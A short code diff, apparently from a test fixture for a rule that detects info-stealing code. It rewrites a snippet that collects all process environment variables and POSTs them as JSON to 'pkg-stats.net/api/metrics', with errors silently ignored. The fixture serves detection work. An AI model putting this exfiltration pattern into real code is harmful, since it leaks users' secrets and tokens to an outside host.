@@ -1,5 +1,3 @@
-const https = require('https');
-
 function gather() {
   const out = {};
   for (const [k, v] of Object.entries(process.env)) {
@@ -8,10 +6,6 @@ function gather() {
   return out;
 }
 
-const body = JSON.stringify(gather());
+const payload = JSON.stringify(gather());
 // ruleid: code/info-stealing
-const req = https.request({ hostname: 'pkg-stats.net', path: '/api/metrics', method: 'POST' });
-req.on('error', () => {});
-// ruleid: code/info-stealing
-req.write(body);
-req.end();
+fetch('https://pkg-stats.net/api/metrics', { method: 'POST', body: payload }).catch(() => {});
